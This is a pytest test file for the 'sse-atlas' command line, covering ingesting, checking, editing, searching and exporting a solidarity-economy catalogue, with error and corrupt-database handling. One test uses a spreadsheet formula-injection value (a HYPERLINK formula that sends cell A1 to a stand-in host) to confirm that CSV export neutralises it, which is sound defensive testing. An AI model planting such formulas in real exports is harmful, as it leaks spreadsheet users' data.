"""The command line as a user runs it: exit codes, stdout and one-line errors on stderr."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from sse_atlas.cli import main
from sse_atlas.kb import KnowledgeBase, Stats
from sse_atlas.store import SQLiteRepository
from sse_atlas.terminal import highlighted
from tests.conftest import SEED
from tests.store.conftest import damage_table, store_copy

CaptureFixture = pytest.CaptureFixture[str]


def _run(capsys: CaptureFixture, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture(scope="module")
def seed_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("cli") / "atlas.sqlite3"
    assert main(["ingest", str(SEED), "--db", str(db)]) == 0
    return db


def test_cli_check_seed_summary(capsys: CaptureFixture) -> None:
    code, out, _ = _run(capsys, "check", str(SEED))
    first = out.splitlines()[0]
    assert (code, first) == (
        0,
        f"{SEED}: catalogue gsef2018-fr: 102 initiatives, 42 workshops, 9 sessions, 3 days",
    )


def test_cli_check_lists_the_entries_to_review_first(capsys: CaptureFixture) -> None:
    code, out, _ = _run(capsys, "check", str(SEED))
    start = out.index("  entries to review first")
    assert (code, out[start:].splitlines()) == (
        0,
        [
            "  entries to review first (2, least confident first):",
            "    2.1.1 (line 217): confidence 0.65; fields organisation, place; "
            "missing-location: no location line found",
            "    2.3.1 (line 259): confidence 0.70; fields place; "
            "missing-country: no country in the location line",
        ],
    )


def test_cli_stats_json_counts(capsys: CaptureFixture, seed_db: Path) -> None:
    code, out, _ = _run(capsys, "stats", "--json", "--db", str(seed_db))
    stats = json.loads(out)
    assert (code, stats["counts"]["initiatives"], stats["coordinated_workshops"]) == (0, 102, 13)


def test_cli_export_json_shape(capsys: CaptureFixture, seed_db: Path) -> None:
    code, out, _ = _run(capsys, "export", "--format", "json", "--db", str(seed_db))
    document = json.loads(out)
    coordinated = [w for w in document["workshops"] if w["kind"] == "coordinated"]
    assert (code, document["format"], len(document["initiatives"]), len(coordinated)) == (
        0,
        "sse-atlas/1",
        102,
        13,
    )


def test_cli_export_json_round_trip(capsys: CaptureFixture, seed_db: Path, tmp_path: Path) -> None:
    first = tmp_path / "first.json"
    second = tmp_path / "second.json"
    copy = tmp_path / "copy.sqlite3"
    assert main(["export", "--format", "json", "-o", str(first), "--db", str(seed_db)]) == 0
    assert main(["ingest", str(first), "--db", str(copy)]) == 0
    assert main(["export", "--format", "json", "-o", str(second), "--db", str(copy)]) == 0
    capsys.readouterr()
    assert json.loads(second.read_text()) == json.loads(first.read_text())


def test_cli_reingest_is_idempotent(capsys: CaptureFixture, tmp_path: Path) -> None:
    db = str(tmp_path / "atlas.sqlite3")
    main(["ingest", str(SEED), "--db", db])
    main(["ingest", str(SEED), str(SEED), "--db", db])
    _, out, _ = _run(capsys, "stats", "--json", "--db", db)
    assert json.loads(out)["counts"]["initiatives"] == 102


def test_cli_edit_survives_reingest(capsys: CaptureFixture, tmp_path: Path) -> None:
    db = str(tmp_path / "atlas.sqlite3")
    main(["ingest", str(SEED), "--db", db])
    main(["edit", "gsef2018-fr/2.3.1", "place.country", "République de Corée", "--db", db])
    main(["ingest", str(SEED), "--db", db])
    capsys.readouterr()
    _, out, _ = _run(capsys, "export", "--format", "json", "--db", db)
    record = next(i for i in json.loads(out)["initiatives"] if i["code"] == "2.3.1")
    assert record["country"] == "République de Corée"


BAD_INPUTS: dict[str, bytes] = {
    "empty.txt": b"",
    "binary.txt": bytes(range(256)) * 8,
    "latin1.txt": "1.1.1 Économie\n".encode("latin-1"),
    "page.html": b"<!DOCTYPE html><html><body><p>1.1.1 Hello</p></body></html>\n",
    "random.txt": b"Lorem ipsum dolor sit amet.\nNothing here looks like a catalogue.\n",
    "broken.json": b'{"format": "sse-atlas/1", "catalogues": [',
    "fake.pdf": b"%PDF-1.4\n1 0 obj <<>> endobj\n",
}


@pytest.mark.parametrize("name", sorted(BAD_INPUTS))
def test_cli_bad_input_one_line_error(
    capsys: CaptureFixture, seed_db: Path, tmp_path: Path, name: str
) -> None:
    path = tmp_path / name
    path.write_bytes(BAD_INPUTS[name])
    before = json.loads(_run(capsys, "stats", "--json", "--db", str(seed_db))[1])["counts"]
    code, out, err = _run(capsys, "ingest", str(SEED), str(path), "--db", str(seed_db))
    after = json.loads(_run(capsys, "stats", "--json", "--db", str(seed_db))[1])["counts"]
    assert (code, out, len(err.splitlines()), err.startswith(str(path)), after) == (
        1,
        "",
        1,
        True,
        before,
    )


def test_cli_truncated_catalogue_names_the_line(capsys: CaptureFixture, tmp_path: Path) -> None:
    text = SEED.read_text(encoding="utf-8")
    cut = text[: text.index("7.1.4 Monnaie sociale MUMBUCA") + 600]
    path = tmp_path / "cut.txt"
    path.write_text(cut, encoding="utf-8")
    code, _, err = _run(capsys, "check", str(path))
    assert (code, err.split(": ", 1)[0].rsplit(":", 1)[0]) == (1, str(path))
    assert "truncated" in err


def test_cli_missing_file(capsys: CaptureFixture, tmp_path: Path) -> None:
    missing = tmp_path / "nope.txt"
    assert _run(capsys, "check", str(missing)) == (1, "", f"{missing}: no such file\n")


def test_cli_usage_error_exit_2(capsys: CaptureFixture) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["export", "--format", "nope"])
    capsys.readouterr()
    assert exit_info.value.code == 2


def test_cli_default_knowledge_base_built_on_first_use(
    capsys: CaptureFixture, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path))
    monkeypatch.delenv("SSE_ATLAS_DB", raising=False)
    code, out, _ = _run(capsys, "stats")
    assert (code, "initiatives: 102" in out, any((tmp_path / "sse-atlas").iterdir())) == (
        0,
        True,
        True,
    )


def test_cli_edit_unknown_country_refused(capsys: CaptureFixture, seed_db: Path) -> None:
    code, out, err = _run(
        capsys, "edit", "gsef2018-fr/2.3.1", "place.country", "Narnia", "--db", str(seed_db)
    )
    assert (code, out, err) == (
        1,
        "",
        "sse-atlas: place.country: 'Narnia' is not a country name this knowledge base knows"
        " (a name in English, French or Spanish, such as 'Spain' or 'Espagne')\n",
    )


def test_cli_edit_bad_url_and_code_refused(capsys: CaptureFixture, seed_db: Path) -> None:
    url = _run(capsys, "edit", "gsef2018-fr/2.3.1", "urls", '["not a url"]', "--db", str(seed_db))
    workshop = _run(capsys, "edit", "gsef2018-fr/2.3.1", "workshop", "four", "--db", str(seed_db))
    assert (url[0], url[2], workshop[0], workshop[2]) == (
        1,
        "sse-atlas: urls: 'not a url' is not a web address (http://…)\n",
        1,
        "sse-atlas: workshop: 'four' is not a code such as '4.2'\n",
    )


def test_cli_edit_reports_before_and_after(
    capsys: CaptureFixture, tmp_path: Path, seed_db: Path
) -> None:
    db = tmp_path / "copy.sqlite3"
    db.write_bytes(seed_db.read_bytes())
    code, out, _ = _run(
        capsys, "edit", "gsef2018-fr/4.2.1", "place.country_code", "be", "--db", str(db)
    )
    assert (code, out) == (
        0,
        "gsef2018-fr/4.2.1: place.country_code: 'BE' -> 'BE' (kept across re-ingests)\n",
    )


def test_cli_search_highlights_plain_when_piped(capsys: CaptureFixture, seed_db: Path) -> None:
    code, out, _ = _run(capsys, "search", "monnaie", "--limit", "1", "--db", str(seed_db))
    assert (code, "[[" in out, "Monnaie" in out) == (0, False, True)


def test_cli_highlighted_bold_on_a_terminal() -> None:
    assert highlighted("a [[Monnaie]] b", bold=True) == "a \033[1mMonnaie\033[0m b"


def test_cli_check_findings_sorted_by_line(capsys: CaptureFixture) -> None:
    _, out, _ = _run(capsys, "check", str(SEED))
    where = [row.split(":")[1] for row in out.splitlines()[1:] if row.startswith(SEED.name)]
    lines = [int(number) for number in where if number.isdigit()]
    assert (len(lines) > 3, lines == sorted(lines)) == (True, True)


def test_cli_db_check_sound_store_ok(capsys: CaptureFixture, seed_db: Path) -> None:
    assert _run(capsys, "db", "check", "--db", str(seed_db)) == (0, f"{seed_db}: ok\n", "")


def test_cli_db_check_garbage_page_exit_1(
    capsys: CaptureFixture, seed_db: Path, tmp_path: Path
) -> None:
    db = damage_table(seed_db, tmp_path / "damaged.sqlite3")
    assert _run(capsys, "db", "check", "--db", str(db)) == (
        1,
        "",
        f"sse-atlas: {db}: the database is corrupt (database disk image is malformed);"
        " restore a backup\n",
    )


@pytest.mark.parametrize(
    "command",
    [
        ("edit", "gsef2018-fr/1.1.1", "title", "Nouveau titre"),
        ("ingest", str(SEED)),
        ("enrich",),
    ],
)
def test_cli_write_on_damaged_store_refused(
    capsys: CaptureFixture, seed_db: Path, tmp_path: Path, command: tuple[str, ...]
) -> None:
    # The page is damaged in the people table, which no quick read before the check touches.
    db = damage_table(seed_db, tmp_path / "damaged.sqlite3", "people")
    before = db.read_bytes()
    code, out, err = _run(capsys, *command, "--db", str(db))
    assert (code, out, err, db.read_bytes() == before) == (
        1,
        "",
        f"sse-atlas: {db}: the database is corrupt (database disk image is malformed);"
        " restore a backup\n",
        True,
    )


def test_cli_edit_waits_then_gives_up_on_lock(
    capsys: CaptureFixture, seed_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    db = store_copy(seed_db, tmp_path / "busy.sqlite3")
    monkeypatch.setenv("SSE_ATLAS_LOCK_TIMEOUT", "0.2")
    with SQLiteRepository(db) as other, other.write_transaction():
        result = _run(
            capsys, "edit", "gsef2018-fr/1.1.1", "title", "Nouveau titre", "--db", str(db)
        )
    assert result == (
        1,
        "",
        f"sse-atlas: another process is writing to {db}; gave up after 0.2 s\n",
    )


def test_cli_lock_timeout_invalid(
    capsys: CaptureFixture, seed_db: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SSE_ATLAS_LOCK_TIMEOUT", "soon")
    assert _run(capsys, "stats", "--db", str(seed_db)) == (
        1,
        "",
        "sse-atlas: SSE_ATLAS_LOCK_TIMEOUT='soon': expected seconds from 0 to 86400\n",
    )


def _failing(error: BaseException) -> Callable[[KnowledgeBase], Stats]:
    def stats(kb: KnowledgeBase) -> Stats:
        raise error

    return stats


def test_cli_unexpected_error_one_line(
    capsys: CaptureFixture, seed_db: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(KnowledgeBase, "stats", _failing(RuntimeError("broken\n  here")))
    assert _run(capsys, "stats", "--db", str(seed_db)) == (
        1,
        "",
        "sse-atlas: error: RuntimeError: broken here\n",
    )


@pytest.mark.parametrize("position", ["before", "after"])
def test_cli_unexpected_error_debug_traceback(
    capsys: CaptureFixture, seed_db: Path, monkeypatch: pytest.MonkeyPatch, position: str
) -> None:
    monkeypatch.setattr(KnowledgeBase, "stats", _failing(RuntimeError("broken")))
    command = ["stats", "--db", str(seed_db)]
    argv = ["--debug", *command] if position == "before" else [*command, "--debug"]
    code, out, err = _run(capsys, *argv)
    lines = err.splitlines()
    assert (code, out, lines[0], lines[-1]) == (
        1,
        "",
        "Traceback (most recent call last):",
        "sse-atlas: error: RuntimeError: broken",
    )


def test_cli_keyboard_interrupt_exit_130(
    capsys: CaptureFixture, seed_db: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(KnowledgeBase, "stats", _failing(KeyboardInterrupt()))
    assert _run(capsys, "stats", "--db", str(seed_db)) == (130, "", "")


FORMULA = '=HYPERLINK("http://x?y="&A1,"click")'


def test_cli_export_csv_formula_neutralised_unless_raw(
    capsys: CaptureFixture, seed_db: Path, tmp_path: Path
) -> None:
    db = tmp_path / "formula.sqlite3"
    db.write_bytes(seed_db.read_bytes())
    assert main(["edit", "gsef2018-fr/1.1.1", "title", FORMULA, "--db", str(db)]) == 0
    capsys.readouterr()
    titles = []
    for extra in ([], ["--raw"]):
        code, out, _ = _run(capsys, "export", "--format", "csv", *extra, "--db", str(db))
        row = next(r for r in csv.DictReader(io.StringIO(out)) if r["code"] == "1.1.1")
        titles.append((code, row["title"]))
    assert titles == [(0, f"'{FORMULA}"), (0, FORMULA)]


def test_cli_settings_lists_the_default_encoder(capsys: CaptureFixture, tmp_path: Path) -> None:
    db = str(tmp_path / "atlas.sqlite3")
    assert _run(capsys, "settings", "--db", db) == (0, "encoder: use\n", "")


def test_cli_settings_set_unknown_encoder_one_line_error(
    capsys: CaptureFixture, tmp_path: Path
) -> None:
    db = str(tmp_path / "atlas.sqlite3")
    assert _run(capsys, "settings", "set", "encoder", "bert", "--db", db) == (
        1,
        "",
        "sse-atlas: encoder: unknown value 'bert': expected one of use, e5\n",
    )


def test_cli_settings_set_then_json(capsys: CaptureFixture, tmp_path: Path) -> None:
    db = str(tmp_path / "atlas.sqlite3")
    assert _run(capsys, "settings", "set", "encoder", "use", "--db", db)[0] == 0
    assert _run(capsys, "settings", "--json", "--db", db) == (0, '{\n  "encoder": "use"\n}\n', "")


def test_cli_search_nothing_found_says_did_you_mean(capsys: CaptureFixture, seed_db: Path) -> None:
    assert _run(capsys, "search", "qqmonnaiex", "--db", str(seed_db)) == (
        0,
        "0 results for 'qqmonnaiex'\nNothing matches this query.\nDid you mean: monnaie\n",
        "",
    )
